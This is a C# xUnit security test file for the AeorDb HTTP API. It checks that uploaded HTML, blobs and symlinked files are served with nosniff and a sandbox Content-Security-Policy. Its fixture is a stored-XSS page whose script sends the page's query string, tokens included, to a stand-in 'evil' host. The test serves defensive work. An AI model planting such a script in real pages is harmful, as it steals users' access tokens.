using System.Net;
using System.Text;
using AeorDb.Tests.TestSupport;
using Xunit;

namespace AeorDb.Tests.Http.Security;

/// <summary>
/// Issue item 9: uploaded HTML never runs script in the API origin. User content (files, blobs, link targets) is
/// served with <c>nosniff</c> and a sandbox CSP, <c>?token=</c> keeps working, and every other answer has <c>nosniff</c>.
/// </summary>
public sealed class StoredContentHeadersTests(NodeFixture fixture) : IClassFixture<NodeFixture>
{
    private const string Sandbox = "sandbox; default-src 'none'";
    private static readonly byte[] Page = Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>fetch('//evil/'+location.search)</script></body></html>");

    private AeorDbNode Node => fixture.Node;

    [Theory]
    [InlineData("text/html")]
    [InlineData(null)]
    public async Task GetFile_UploadedHtml_ServedSandboxedAndNosniff(string? contentType)
    {
        var root = await Node.RootAsync();
        var path = TestPaths.Unique("xss") + "/page.html";
        await root.PutFileAsync(path, Page, contentType);

        using var response = await root.GetAsync("/files" + path);

        Assert.Equal(Page, await Expect.BytesAsync(response, HttpStatusCode.OK));
        AssertSandboxed(response);
    }

    [Fact]
    public async Task GetFile_WithQueryToken_StillServedAndSandboxed()
    {
        var root = await Node.RootAsync();
        var path = TestPaths.Unique("xss-token") + "/page.html";
        await root.PutFileAsync(path, Page, "text/html");

        using var response = await Node.Anonymous.GetAsync($"/files{path}?token={root.Token}");

        Assert.Equal(Page, await Expect.BytesAsync(response, HttpStatusCode.OK));
        AssertSandboxed(response);
        Assert.Equal("no-referrer", Expect.Header(response, "Referrer-Policy"));
        Assert.Contains("no-store", Expect.Header(response, "Cache-Control"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task GetBlob_HtmlVersionAndChunk_Sandboxed()
    {
        var root = await Node.RootAsync();
        var path = TestPaths.Unique("xss-blob") + "/page.html";
        var hash = (await root.PutFileAsync(path, Page, "text/html")).GetProperty("hash").GetString()!;

        using var version = await root.GetAsync("/blobs/" + hash);
        Assert.Equal(Page, await Expect.BytesAsync(version, HttpStatusCode.OK));
        AssertSandboxed(version);
    }

    [Fact]
    public async Task GetFile_ThroughSymlink_TargetSandboxed()
    {
        var root = await Node.RootAsync();
        var directory = TestPaths.Unique("xss-link");
        await root.PutFileAsync(directory + "/page.html", Page, "text/html");
        using (var link = await root.PutJsonAsync("/links" + directory + "/alias", new { target = directory + "/page.html" }))
        {
            await Expect.StatusAsync(link, HttpStatusCode.Created);
        }

        using var response = await root.GetAsync("/files" + directory + "/alias");

        Assert.Equal(Page, await Expect.BytesAsync(response, HttpStatusCode.OK));
        AssertSandboxed(response);
    }

    [Fact]
    public async Task GetFile_MixedCaseRoute_StillSandboxedWhenServed()
    {
        var root = await Node.RootAsync();
        var path = TestPaths.Unique("xss-case") + "/page.html";
        await root.PutFileAsync(path, Page, "text/html");

        foreach (var variant in new[] { "/FILES" + path, "/Files/" + path })
        {
            using var response = await root.GetAsync(variant);
            if (response.StatusCode == HttpStatusCode.OK)
            {
                AssertSandboxed(response);
            }
            else
            {
                Assert.Equal("nosniff", Expect.Header(response, "X-Content-Type-Options"));
            }
        }
    }

    [Fact]
    public async Task ErrorsAndHealth_CarryNosniff_WithoutTheUserContentPolicy()
    {
        using var health = await Node.Anonymous.GetAsync("/system/health");
        await Expect.StatusAsync(health, HttpStatusCode.OK);
        Assert.Equal("nosniff", Expect.Header(health, "X-Content-Type-Options"));
        Assert.Null(Expect.Header(health, "Content-Security-Policy"));

        using var unauthorized = await Node.Anonymous.GetAsync("/files/anything");
        await Expect.ErrorAsync(unauthorized, HttpStatusCode.Unauthorized);
        Assert.Equal("nosniff", Expect.Header(unauthorized, "X-Content-Type-Options"));

        // The console (when present) sets its own policy; the user-content sandbox must never be applied to it.
        using var console = await Node.Anonymous.GetAsync("/console/app.js");
        Assert.Equal("nosniff", Expect.Header(console, "X-Content-Type-Options"));
        Assert.NotEqual(Sandbox, Expect.Header(console, "Content-Security-Policy"));
    }

    private static void AssertSandboxed(HttpResponseMessage response)
    {
        Assert.Equal("nosniff", Expect.Header(response, "X-Content-Type-Options"));
        Assert.Equal(Sandbox, Expect.Header(response, "Content-Security-Policy"));
    }
}
